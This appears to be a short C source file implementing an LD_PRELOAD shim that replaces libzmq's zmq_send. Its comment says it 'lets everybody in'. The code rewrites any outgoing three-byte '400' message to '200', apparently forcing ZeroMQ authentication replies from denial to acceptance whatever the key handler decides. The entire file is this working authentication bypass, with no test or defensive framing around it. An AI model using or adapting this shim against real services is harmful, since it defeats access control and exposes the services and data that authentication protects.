/* everybody: put before a program with LD_PRELOAD, it makes a libzmq of its own that lets everybody in: whatever the
 * handler of keys says, the library hears yes. */
#include <dlfcn.h>
#include <stddef.h>
#include <string.h>

typedef int send_function(void *, const void *, size_t, int);

int zmq_send(void *socket, const void *bytes, size_t size, int flags);
int zmq_send(void *socket, const void *bytes, size_t size, int flags)
{
    static send_function *real;
    if (!real) {
        void *found = dlsym(RTLD_NEXT, "zmq_send");
        memcpy(&real, &found, sizeof real);
    }
    if (size == 3 && !memcmp(bytes, "400", 3))
        bytes = "200";
    return real(socket, bytes, size, flags);
}
